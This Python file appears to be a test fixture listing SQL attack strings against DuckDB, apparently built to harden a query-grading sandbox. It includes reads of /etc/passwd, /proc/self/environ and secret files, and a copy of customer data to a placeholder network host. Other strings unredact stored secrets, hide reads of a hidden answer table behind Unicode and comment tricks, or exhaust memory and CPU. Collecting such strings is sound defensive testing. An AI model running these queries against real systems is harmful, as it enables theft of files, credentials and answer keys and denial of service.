"""Attacks by what DuckDB 2 can do: its readers and table functions, its odd places for a query, its appetite.

`{DATA}` and `{TMP}` are folders of bait files and of nothing, `{NET}` a server that counts its callers.
"""

GOLD = "(SELECT gold FROM hidden_answers LIMIT 1)"

OUTSIDE = """
SELECT (read_text('{DATA}/secret.txt')).content
SELECT glob('{DATA}/*')
FROM glob('/etc/*')
SELECT getenv('PATH')
SELECT getenv('HOME') FROM customers LIMIT 1
FROM '{DATA}/secret.csv'
FROM "{DATA}/secret.parquet"
SELECT * FROM '{DATA}/secret.json' LIMIT 1
FROM '{DATA}/*.csv'
SELECT * FROM "/etc/passwd"
FROM 'file://{DATA}/secret.csv'
FROM '{NET}/x.csv'
FROM '{NET}/x.parquet'
FROM read_csv('{NET}/x.csv')
FROM read_parquet(['{NET}/x.parquet'])
FROM read_text('{NET}/')
FROM read_blob('{NET}/')
FROM read_json('{NET}/x.json', format := 'auto')
FROM read_parquet('s3://bucket/x.parquet')
FROM read_parquet('hf://datasets/a/b/c.parquet')
FROM read_parquet('gcs://bucket/x.parquet')
FROM read_csv('/dev/stdin')
FROM read_csv('/proc/self/environ', header := false)
FROM read_text('/proc/self/maps')
FROM read_text('/proc/1/environ')
FROM read_blob('/dev/zero')
FROM read_csv('/dev/fd/3')
ATTACH '{NET}/x.duckdb'
ATTACH ':memory:' AS m
ATTACH 'ducklake:{DATA}/lake' AS lake
ATTACH 'postgres:host=127.0.0.1' AS pg
INSTALL httpfs FROM '{NET}/'
FORCE INSTALL json FROM '{NET}/'
LOAD httpfs
UPDATE EXTENSIONS
COPY customers TO '{NET}/x.csv'
COPY (SELECT 1) TO '/dev/stdout'
COPY (SELECT 1) TO '/dev/fd/2'
COPY FROM DATABASE main_db TO other
SELECT http_get('{NET}/')
FROM iceberg_scan('{DATA}')
FROM delta_scan('{DATA}')
FROM postgres_scan('host=127.0.0.1 port=1', 'public', 't')
FROM sqlite_scan('{DATA}/other.duckdb', 't')
FROM mysql_query('m', 'SELECT 1')
FROM st_read('{DATA}/secret.csv')
FROM read_xlsx('{DATA}/secret.csv')
FROM read_avro('{DATA}/secret.csv')
FROM sniff_csv('{DATA}/secret.csv')
FROM parquet_kv_metadata('{DATA}/secret.parquet')
FROM parquet_bloom_probe('{DATA}/secret.parquet', 'a', 'x')
FROM read_duckdb('{DATA}/other.duckdb', table_name := 't')
FROM pandas_scan(0)
FROM python_map_function(0)
FROM arrow_scan(1, 2, 3)
FROM arrow_scan_dumb(1, 2, 3)
FROM seq_scan('hidden_answers')
FROM query('FROM hidden_answers')
FROM query('COPY customers TO ''{TMP}/x.csv''')
FROM query_table('hidden_answers')
FROM query_table(['hidden_answers'], true)
FROM query_table('{DATA}/secret.csv')
FROM duckdb_secrets()
FROM duckdb_secrets(redact := false)
FROM duckdb_settings()
FROM duckdb_logs
FROM duckdb_logs()
FROM duckdb_log_contexts()
FROM duckdb_external_file_cache()
FROM duckdb_prepared_statements()
FROM duckdb_dependencies()
FROM duckdb_databases()
FROM duckdb_schemas()
FROM duckdb_table_sample('hidden_answers')
FROM pragma_database_list()
FROM pragma_user_agent()
FROM pragma_platform()
FROM pragma_metadata_info()
FROM pragma_collations()
FROM checkpoint()
FROM force_checkpoint()
CALL truncate_duckdb_logs()
CALL enable_logging('FileSystem')
CALL enable_logging(storage := 'file', storage_config := {'path': '{TMP}/log'})
CALL enable_profiling()
CALL start_ui()
CALL start_ui_server()
CALL dbgen(sf = 1)
CALL load_aws_credentials()
PRAGMA import_database('{DATA}')
PRAGMA show_databases
PRAGMA enable_profiling = 'json'
PRAGMA profile_output = '{TMP}/p.json'
PRAGMA temp_directory = '{TMP}'
PRAGMA enable_verification
PRAGMA force_checkpoint
PRAGMA memory_limit = '1TB'
"""

PLACES = f"""
WITH x AS (COPY customers TO '{{TMP}}/x.csv') SELECT 1
WITH x AS (DELETE FROM customers RETURNING *) SELECT * FROM x
WITH x AS (INSERT INTO customers VALUES (1, 'a', 'b') RETURNING *) FROM x
WITH x AS (UPDATE customers SET name = 'x' RETURNING *) FROM x
SELECT * FROM (COPY (SELECT 1) TO '{{TMP}}/y')
EXPLAIN ANALYZE COPY customers TO '{{TMP}}/z.csv'
EXPLAIN ANALYZE DELETE FROM customers
EXPLAIN (ANALYZE, FORMAT json) SELECT * FROM hidden_answers
SUMMARIZE FROM read_text('{{DATA}}/secret.txt')
SUMMARIZE '{{DATA}}/secret.csv'
DESCRIBE '{{DATA}}/secret.csv'
DESCRIBE TABLE '{{DATA}}/secret.csv'
SHOW TABLES FROM other
FROM (DESCRIBE hidden_answers)
FROM (SUMMARIZE hidden_answers)
FROM (SHOW ALL TABLES)
SELECT * FROM (DESCRIBE SELECT * FROM '{{DATA}}/secret.csv')
SELECT m_add(1, 2)
FROM m_file('{{DATA}}/secret.txt')
SELECT (FROM m_file('{{DATA}}/secret.txt') SELECT content)
CREATE OR REPLACE TEMP MACRO range(x) AS TABLE FROM hidden_answers
PREPARE v AS FROM hidden_answers; EXECUTE v
EXECUTE IMMEDIATE 'FROM hidden_answers'
SELECT $1
SELECT * FROM customers LIMIT ?
SELECT $x FROM customers
SELECT 1; SET threads = 8
SET VARIABLE t = 'hidden_answers'; FROM query_table(getvariable('t'))
SELECT 1;; SELECT gold FROM hidden_answers
RESET enable_external_access; FROM read_text('{{DATA}}/secret.txt')
SELECT gold FROM hidden_answ\u0435rs
SELECT gold FROM hidden\u200b_answers
SEL\u200bECT gold FROM hidden_answers
SELECT gold FROM \u202ehidden_answers
SELECT gold\u3000FROM\u3000hidden_answers
SELECT gold FROM H\u0130DDEN_ANSWERS
SELECT gold FROM h\u0131dden_answers
SELECT gold FROM U&"hidden\\005Fanswers"
SELECT gold FROM U&"\\0068idden_answers"
SELECT gold FROM hidden_answers\u00a0
SELECT gold FROM main.\u200dhidden_answers
SELECT /*+ x */ gold FROM hidden_answers
SELECT 1 /*!50000 , gold FROM hidden_answers */
SELECT 1 /* /* */ , gold FROM hidden_answers -- */
SELECT 1 --\r, gold FROM hidden_answers
SELECT 1 --\u2028, gold FROM hidden_answers
SELECT $tag$ $tag2$ $tag$, gold FROM hidden_answers
SELECT $$'$$ || gold || $$'$$ FROM hidden_answers
SELECT 'a' || gold || '--' FROM hidden_answers --'
SELECT '\\'; SELECT gold FROM hidden_answers; --'
SELECT "a""b".gold FROM hidden_answers AS "a""b"
SELECT "; --" FROM (SELECT gold AS "; --" FROM hidden_answers)
SELECT * FROM customers WHERE name = (TABLE hidden_answers)
TABLE hidden_answers
SELECT (TABLE hidden_answers LIMIT 1)
SELECT * FROM ONLY hidden_answers
SELECT * FROM hidden_answers TABLESAMPLE 1%
SELECT * FROM main_db.main.hidden_answers
SELECT * FROM main.main.hidden_answers
SELECT * FROM memory.hidden_answers
SELECT hidden_answers.gold FROM customers
SELECT 'hidden_answers'::REGCLASS
SELECT NULL::hidden_answers
SELECT TRY(read_text('{{DATA}}/secret.txt'))
FROM customers SEMI JOIN hidden_answers USING (id)
FROM customers ANTI JOIN hidden_answers USING (id)
FROM customers POSITIONAL JOIN hidden_answers
FROM customers NATURAL JOIN hidden_answers
SELECT COLUMNS((SELECT list(gold) FROM hidden_answers)) FROM customers
SELECT COLUMNS(c -> c = {GOLD}) FROM customers
SELECT * EXCLUDE (id) REPLACE ((FROM hidden_answers SELECT first(gold)) AS name) FROM customers
SELECT name FROM customers QUALIFY row_number() OVER (ORDER BY {GOLD}) = 1
SELECT sum(id) OVER w FROM customers WINDOW w AS (PARTITION BY {GOLD})
SELECT sum(id) OVER (ORDER BY id ROWS (SELECT count(*) FROM hidden_answers) PRECEDING) FROM customers
SELECT count(*) FILTER (WHERE EXISTS (FROM hidden_answers)) FROM customers
SELECT array_agg(name ORDER BY {GOLD}) FROM customers
SELECT name FROM customers LIMIT (SELECT count(*) FROM hidden_answers)
SELECT name FROM customers OFFSET (SELECT count(*) FROM hidden_answers)
SELECT name FROM customers LIMIT (SELECT count(*) FROM hidden_answers) PERCENT
VALUES ({GOLD})
SELECT * FROM range((SELECT count(*) FROM hidden_answers))
SELECT * FROM unnest((SELECT list(gold) FROM hidden_answers))
SELECT country FROM customers GROUP BY ALL HAVING max({GOLD}) > ''
SELECT country FROM customers GROUP BY GROUPING SETS (({GOLD}), (country))
SELECT {{'a': {GOLD}}}
SELECT MAP {{{GOLD}: 1}}
SELECT [{GOLD}]
SELECT [g FOR g IN (SELECT list(gold) FROM hidden_answers)]
SELECT list_reduce(['a'], lambda x, y: {GOLD}, 'b')
SELECT list_filter([1], lambda x: EXISTS (FROM hidden_answers))
SELECT name COLLATE {GOLD} FROM customers
SELECT INTERVAL (SELECT count(*) FROM hidden_answers) DAY
SELECT CAST({GOLD} AS INTEGER)
SELECT {GOLD}::INTEGER
SELECT CAST({GOLD} AS DATE)
SELECT strptime({GOLD}, '%Y')
SELECT error({GOLD})
SELECT json_extract('{{}}', {GOLD})
SELECT regexp_matches('a', {GOLD})
PIVOT (SELECT * FROM '{{DATA}}/secret.csv') ON a USING count(*)
PIVOT customers ON country USING max({GOLD})
PIVOT customers ON (SELECT gold FROM hidden_answers) USING count(*)
FROM customers PIVOT (count(*) FOR id IN (SELECT id FROM hidden_answers))
UNPIVOT hidden_answers ON COLUMNS(*)
SELECT * FROM customers, LATERAL (FROM hidden_answers) h LIMIT 1
SELECT * FROM customers c, LATERAL (SELECT gold FROM hidden_answers h WHERE h.id = c.id) LIMIT 1
WITH RECURSIVE hidden_answers AS (SELECT * FROM main.hidden_answers) FROM hidden_answers
WITH RECURSIVE r(a) USING KEY (a) AS (SELECT gold FROM hidden_answers UNION SELECT a FROM r) FROM r
SELECT now() AT TIME ZONE '../../../../{{DATA}}/secret.txt'
SELECT timezone('{{DATA}}/secret.txt', now())
SELECT * FROM pg_timezone_names()
SET TimeZone = 'Europe/Berlin'
"""

APPETITE = (
    "SELECT " + "abs(" * 59 + "1" + ")" * 59,
    "SELECT customers" + ".x" * 3000 + " FROM customers",
    "SELECT 1" + "::INT" * 3000,
    "SELECT [1]" + "[1]" * 2000,
    "SELECT " + "EXISTS (SELECT " * 55 + "1" + ")" * 55,
    "SELECT ''" + " || ''" * 3900,
    "SELECT true" + " AND true" * 3900,
    "SELECT name" + " COLLATE nocase" * 2000 + " FROM customers",
    "SELECT list_transform([1], " + "lambda x: list_transform([1], " * 50 + "lambda y: 1" + ")" * 51,
    "WITH c0 AS (SELECT 1 AS n)" + "".join(f", c{i} AS (FROM c{i - 1})" for i in range(1, 700)) + " FROM c699",
    "SELECT count(*) FROM customers" + "".join(f" JOIN customers c{i} USING (id)" for i in range(150)),
    "SELECT count(*) FROM " + ", ".join(f"customers c{i}" for i in range(60)),
    "SELECT count(*) FROM customers GROUP BY CUBE (" + ", ".join(f"id + {i}" for i in range(18)) + ")",
    "SELECT count(*) FROM orders GROUP BY CUBE (id, customer_id, amount, d, id + 1, id + 2, id + 3, id + 4, id + 5)",
    "WITH RECURSIVE r(s) AS (SELECT 'x' UNION ALL SELECT s || s FROM r) SELECT max(length(s)) FROM r",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r, range(1000)) SELECT count(*) FROM r",
    "SELECT regexp_extract_all(repeat('a', 50000000), 'a')",
    "SELECT regexp_matches('a', repeat('a{1000}', 1000))",
    "SELECT regexp_matches('a', '((((a{100}){100}){100}){100})')",
    "SELECT regexp_replace(repeat('a', 1000000), '(a*)*b', 'x')",
    "SELECT repeat('a', 100000) LIKE repeat('%a', 20000) || 'b'",
    "SELECT repeat('a', 100000) GLOB repeat('*a', 5000) || 'b'",
    "SELECT jaro_winkler_similarity(repeat('a', 1000000), repeat('b', 1000000))",
    "SELECT damerau_levenshtein(repeat('ab', 30000), repeat('ba', 30000))",
    "SELECT repeat('x', 9223372036854775807)",
    "SELECT range(2000000000)",
    "SELECT list_value(range(30000000), range(30000000))",
    "SELECT array_agg(range(1000)) FROM orders",
    "SELECT map_from_entries(list((i, i))) FROM range(20000000) t(i)",
    "SELECT histogram(i) FROM range(100000000) t(i)",
    "SELECT sum(x) FROM (SELECT unnest(range(2000000000)) AS x)",
    "SELECT [x * y FOR x IN range(100000000)] FROM range(3) t(y)",
    "SELECT flatten([range(10000000) FOR i IN range(1000)])",
    "SELECT list_distinct(range(50000000))",
    "SELECT format('{:>2000000000}', 'x')",
    "SELECT printf('%2000000000d', 1)",
    "SELECT rpad('', 2147483647, 'x')",
    "SELECT bar(1, 0, 1, 2000000000)",
    "SELECT bitstring('1', 2000000000)",
    "SELECT hex(repeat('x', 400000000))",
    "SELECT factorial(100000)",
    "SELECT (repeat('[', 10000000) || repeat(']', 10000000))::JSON",
    "SELECT json_structure(repeat('[', 100000) || repeat(']', 100000))",
    "SELECT json_extract('[[1]]', '$' || repeat('[*]', 10000))",
    "SELECT json_transform('{}', repeat('{\"a\":', 10000))",
    "SELECT to_json(list(c)) FROM customers c, range(1000)",
    "PIVOT orders ON id USING count(*)",
    "PIVOT orders ON customer_id USING sum(amount) GROUP BY d",
    "SELECT count(*) FROM orders a, LATERAL (SELECT * FROM orders b WHERE b.id > a.id) x",
    "SELECT count(*) FROM range(100000) a(i), LATERAL range(i) b(j), LATERAL range(j) c(k)",
    "SELECT max(m) FROM (SELECT median(amount) OVER (ORDER BY id ROWS 100000 PRECEDING) AS m FROM orders)",
    "SELECT max(len(l)) FROM (SELECT list(id) OVER (ORDER BY id) AS l FROM orders)",
    "SELECT count(*) FROM generate_series(TIMESTAMP '0001-01-01', TIMESTAMP '9999-01-01', INTERVAL '1 second')",
    "SELECT DATE '2024-01-01' + INTERVAL 9999999999 YEAR",
    "SELECT reservoir_quantile(id, 0.5, 1000000000) FROM orders",
    "SELECT to_timestamp(1e308), make_date(999999999, 1, 1)",
    "SELECT approx_quantile(i, range(1, 100000)::FLOAT[]) FROM range(1000000) t(i)",
)


def engine_attacks(every: int = 1) -> list[str]:
    """The attacks, `{DATA}`, `{TMP}` and `{NET}` still in them; of the appetite, which takes time, one in `every`."""
    # A line ends at a line feed alone: other line ends are part of some attacks.
    return [*(line for text in (OUTSIDE, PLACES) for line in text.split("\n") if line), *APPETITE[::every]]
